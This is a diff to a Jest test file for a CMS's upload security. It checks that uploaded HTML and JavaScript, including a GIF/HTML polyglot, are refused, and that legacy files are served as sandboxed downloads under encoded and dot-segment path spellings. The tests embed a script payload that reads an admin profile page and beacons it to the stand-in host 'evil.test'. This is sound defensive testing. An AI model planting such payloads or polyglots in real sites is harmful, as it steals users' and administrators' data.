@@ -2,6 +2,7 @@
  * @jest-environment node
  */
 import fs from 'node:fs';
+import http from 'node:http';
 import path from 'node:path';
 import sharp from 'sharp';
 import { TEST_ADMIN, startCmsWithMail, type CmsWithMail } from '../helpers/cms-harness';
@@ -48,6 +49,19 @@ function upload(name: string, type: string, bytes: Buffer | string) {
   return harness.api('/upload', { method: 'POST', body: form, token: editorToken });
 }
 
+/** A GET of a request target exactly as written (fetch would normalize `/./` and `..`). */
+function rawGet(target: string): Promise<{ status: number; headers: http.IncomingHttpHeaders }> {
+  const { hostname, port } = new URL(harness.cms.url);
+  return new Promise((resolve, reject) => {
+    http
+      .get({ hostname, port, path: target }, (response) => {
+        response.resume();
+        response.on('end', () => resolve({ status: response.statusCode ?? 0, headers: response.headers }));
+      })
+      .on('error', reject);
+  });
+}
+
 const SCRIPT =
   'fetch("/admin/users/me").then((r) => r.text()).then((t) => navigator.sendBeacon("//evil.test", t))';
 
@@ -56,10 +70,18 @@ it('refuses an editor’s HTML and JavaScript with a message naming the type, an
   const script = await upload('app.js', 'text/javascript', SCRIPT);
   // Named as an image, declared as one: the content (or the name's type) still decides.
   const disguised = await upload('page.svg.html', 'image/png', `<html><script>${SCRIPT}</script></html>`);
+  // A GIF that is also a page, sent as "some file": its content is an image, but it would be
+  // stored and served under its name, as HTML.
+  const polyglot = await upload(
+    'page.html',
+    'application/octet-stream',
+    `GIF89a=0;<html><script>${SCRIPT}</script></html>`,
+  );
   for (const [answer, type] of [
     [html, 'text/html'],
-    [script, 'application/javascript'],
+    [script, 'text/javascript'],
     [disguised, 'text/html'],
+    [polyglot, 'text/html'],
   ] as const) {
     expect(answer.status).toBe(400);
     expect(answer.body.error.message).toBe(
@@ -109,16 +131,25 @@ it('takes images (SVG included) and PDF, and serves them so that none runs scrip
   expect(vector.headers.get('content-disposition')).toBe('attachment');
 });
 
-it('serves a file already in /uploads that is not media (from before the allow-list) as a sandboxed download', async () => {
+it('serves a file already in /uploads that is not media (from before the allow-list) as a sandboxed download, however its path is spelt', async () => {
   const uploads = path.join(harness.workDir, 'public', 'uploads');
   fs.writeFileSync(path.join(uploads, 'old_page.html'), `<script>${SCRIPT}</script>`);
   fs.writeFileSync(path.join(uploads, 'old_app.js'), SCRIPT);
-  for (const name of ['old_page.html', 'old_app.js']) {
-    const { status, headers } = await harness.api(`/uploads/${name}`);
-    expect(status).toBe(200);
-    expect(headers.get('content-disposition')).toBe('attachment');
-    expect(headers.get('content-security-policy')).toMatch(/^default-src 'none';.*; sandbox$/);
-    expect(headers.get('x-content-type-options')).toBe('nosniff');
+  const targets = [
+    '/uploads/old_page.html',
+    '/uploads/old_app.js',
+    // The CMS's static server decodes and resolves these into the uploads folder too.
+    '/%75ploads/old_page.html',
+    '/uploads%2Fold_page.html',
+    '/./uploads/old_page.html',
+    '/api/../uploads/old_page.html',
+  ];
+  for (const target of targets) {
+    const { status, headers } = await rawGet(target);
+    expect([target, status]).toEqual([target, 200]);
+    expect([target, headers['content-disposition']]).toEqual([target, 'attachment']);
+    expect(headers['content-security-policy']).toMatch(/^default-src 'none';.*; sandbox$/);
+    expect(headers['x-content-type-options']).toBe('nosniff');
   }
 });
 
